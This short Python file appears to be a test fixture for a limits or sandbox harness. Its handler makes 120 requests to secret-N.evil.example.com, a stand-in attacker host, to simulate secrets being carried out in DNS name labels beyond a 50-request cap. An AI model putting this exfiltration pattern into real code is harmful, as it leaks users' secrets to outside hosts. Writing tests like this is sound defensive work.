"""Secrets carried out in the labels of names that are looked up: more of them than a call has requests.

ends: ok, timeout
requests: 50
"""
import requests


def handler(event, context):
    for number in range(120):
        tried(lambda: requests.get(f"https://secret-{number}.evil.example.com/"))
    return {}
